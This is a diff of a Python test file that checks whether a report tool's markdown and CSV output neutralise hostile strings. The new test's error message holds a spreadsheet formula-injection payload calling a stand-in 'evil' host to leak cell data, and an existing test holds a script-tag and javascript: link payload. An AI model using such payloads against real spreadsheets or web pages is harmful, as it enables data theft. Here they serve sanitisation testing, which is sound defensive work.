@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -85,3 +87,13 @@ def test_names_and_reasons_are_never_markup() -> None:
     assert MarkdownIt("commonmark").renderInline(escape_markdown(hostile)) == (
         "&lt;script&gt;alert(1)&lt;/script&gt; [a](javascript:b) | `c` **d** # e ![f](g)"
     )
+
+
+def test_no_cell_of_a_report_is_taken_for_a_formula_or_breaks_its_line() -> None:
+    source = ImageReference("docker-dev", "app", "1", None)
+    error = ValueError('=HYPERLINK("http://evil/?"&A1)\r\n-2+3')
+    file = io.StringIO()
+    PromotionReport((PromotionResult(source=source, target=source, error=error),)).write_csv(file)
+    [row] = csv.DictReader(io.StringIO(file.getvalue()))
+    assert row["error"] == '\'=HYPERLINK("http://evil/?"&A1) -2+3'
+    assert file.getvalue().count("\n") == 2
